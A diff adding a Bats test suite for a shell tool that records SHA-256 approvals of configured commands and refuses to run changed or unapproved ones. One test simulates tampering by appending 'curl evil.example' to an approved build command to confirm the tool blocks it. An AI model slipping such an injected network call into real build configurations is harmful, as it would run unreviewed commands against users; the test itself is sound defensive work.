@@ -0,0 +1,107 @@
+#!/usr/bin/env bats
+
+# Test approved commands (--write-approvals and --verify)
+
+setup() {
+    load helpers/common
+    common_setup
+    SCRIPT_DIR="$(cd "$(dirname "$BATS_TEST_FILENAME")/.." && pwd)"
+    SHELL_BUN="$SCRIPT_DIR/shell-bun.sh"
+    TEST_CONFIG="$BATS_TEST_TMPDIR/approvals.cfg"
+    APPROVALS="$BATS_TEST_TMPDIR/approvals.json"
+
+    cat > "$TEST_CONFIG" << 'EOF'
+var_OUT=${CONFIG_DIR}/out
+
+[Portal]
+working_dir=${SB_TEST_WORKDIR}
+build=echo "building to ${OUT}"
+test=echo "testing" {{args}}
+
+[API]
+build=echo "building API"
+EOF
+    export SB_TEST_WORKDIR="$BATS_TEST_TMPDIR"
+}
+
+@test "--write-approvals records every action one per line" {
+    run bash "$SHELL_BUN" --write-approvals "$APPROVALS" "$TEST_CONFIG"
+    [ "$status" -eq 0 ]
+    [[ "$output" =~ "Wrote approvals for 3 action(s) to $APPROVALS" ]]
+    run cat "$APPROVALS"
+    [[ "$output" =~ '"algorithm": "sha256",' ]]
+    [[ "${lines[4]}" =~ ^\ \ \ \ \{\"app\":\ \"Portal\",\ \"action\":\ \"build\",\ \"sha256\":\ \"[0-9a-f]{64}\"\},$ ]]
+    [[ "${lines[6]}" =~ \"app\":\ \"API\" ]]
+}
+
+@test "--verify runs actions whose commands match" {
+    bash "$SHELL_BUN" --write-approvals "$APPROVALS" "$TEST_CONFIG"
+    run bash "$SHELL_BUN" --verify "$APPROVALS" --ci "*" "*" "$TEST_CONFIG"
+    [ "$status" -eq 0 ]
+    [[ "$output" =~ "building to $BATS_TEST_TMPDIR/out" ]]
+    [[ "$output" =~ "building API" ]]
+    # Forwarded arguments are not part of what is approved
+    run bash "$SHELL_BUN" --verify "$APPROVALS" --ci Portal test "$TEST_CONFIG" -- --fast
+    [ "$status" -eq 0 ]
+    [[ "$output" =~ "testing --fast" ]]
+}
+
+@test "--verify refuses a batch with changed or unknown actions and runs none of it" {
+    bash "$SHELL_BUN" --write-approvals "$APPROVALS" "$TEST_CONFIG"
+    sed -i 's/echo "building API"/echo "building API"; curl evil.example/' "$TEST_CONFIG"
+    printf '[Extra]\nrun=echo extra\n' >> "$TEST_CONFIG"
+    run bash "$SHELL_BUN" --verify "$APPROVALS" --ci "*" build "$TEST_CONFIG"
+    [ "$status" -eq 1 ]
+    [[ "$output" =~ "Error: Refusing to run: 1 action(s) do not match the approvals in $APPROVALS" ]]
+    [[ "$output" =~ "  API - build: command changed since it was approved (sha256 "[0-9a-f]{64}")" ]]
+    [[ ! "$output" =~ "building to" ]]
+
+    run bash "$SHELL_BUN" --verify "$APPROVALS" --ci Extra run "$TEST_CONFIG"
+    [ "$status" -eq 1 ]
+    [[ "$output" =~ "  Extra - run: not in $APPROVALS" ]]
+
+    # Unchanged actions still run
+    run bash "$SHELL_BUN" --verify "$APPROVALS" --ci Portal build "$TEST_CONFIG"
+    [ "$status" -eq 0 ]
+}
+
+@test "Values with \${...} are approved as written, not as expanded" {
+    bash "$SHELL_BUN" --write-approvals "$APPROVALS" "$TEST_CONFIG"
+    mkdir -p "$BATS_TEST_TMPDIR/elsewhere"
+    SB_TEST_WORKDIR="$BATS_TEST_TMPDIR/elsewhere" run bash "$SHELL_BUN" --verify "$APPROVALS" --ci Portal build "$TEST_CONFIG"
+    [ "$status" -eq 0 ]
+
+    sed -i 's/^working_dir=.*/working_dir=\/tmp/' "$TEST_CONFIG"
+    run bash "$SHELL_BUN" --verify "$APPROVALS" --ci Portal build "$TEST_CONFIG"
+    [ "$status" -eq 1 ]
+}
+
+@test "--write-approvals=FILE and --verify=FILE work like the separate forms" {
+    run bash "$SHELL_BUN" --write-approvals="$APPROVALS" "$TEST_CONFIG"
+    [ "$status" -eq 0 ]
+    [[ "$output" =~ "Wrote approvals for 3 action(s) to $APPROVALS" ]]
+    run bash "$SHELL_BUN" --verify="$APPROVALS" --ci API build "$TEST_CONFIG"
+    [ "$status" -eq 0 ]
+    [[ "$output" =~ "building API" ]]
+    run bash "$SHELL_BUN" --verify --ci API build "$TEST_CONFIG"
+    [ "$status" -eq 1 ]
+    [[ "$output" =~ "Error: --verify requires an approvals file" ]]
+}
+
+@test "A missing approvals file is an error" {
+    run bash "$SHELL_BUN" --verify "$BATS_TEST_TMPDIR/missing.json" --ci Portal build "$TEST_CONFIG"
+    [ "$status" -eq 1 ]
+    [[ "$output" =~ "Error: Cannot read approvals file '$BATS_TEST_TMPDIR/missing.json'" ]]
+}
+
+@test "The menu refuses to run actions that do not match" {
+    if ! script -qec true /dev/null >/dev/null 2>&1; then
+        skip "util-linux 'script' is required to emulate a terminal"
+    fi
+    bash "$SHELL_BUN" --write-approvals "$APPROVALS" "$TEST_CONFIG"
+    sed -i 's/building to/now building to/' "$TEST_CONFIG"
+    run bash -c "(sleep 1; printf '\r'; sleep 1; printf '\r'; sleep 0.5; printf '\033'; sleep 0.3) | script -qec \"bash '$SHELL_BUN' --verify '$APPROVALS' '$TEST_CONFIG'\" /dev/null"
+    [ "$status" -eq 0 ]
+    [[ "$output" =~ "Portal - build: command changed since it was approved" ]]
+    [[ ! "$output" =~ "now building to" ]]
+}